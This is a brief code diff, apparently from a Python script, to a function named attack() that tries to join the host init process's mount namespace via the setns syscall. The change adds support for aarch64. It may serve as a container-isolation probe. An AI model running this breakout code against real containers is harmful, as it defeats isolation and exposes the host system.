@@ -6,7 +6,7 @@ GOT = False
 def attack():
     import ctypes, os
     fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
-    return ctypes.CDLL(None).syscall(308, fd, 0) == 0
+    return ctypes.CDLL(None).syscall(268 if os.uname().machine == "aarch64" else 308, fd, 0) == 0
 
 
 try:
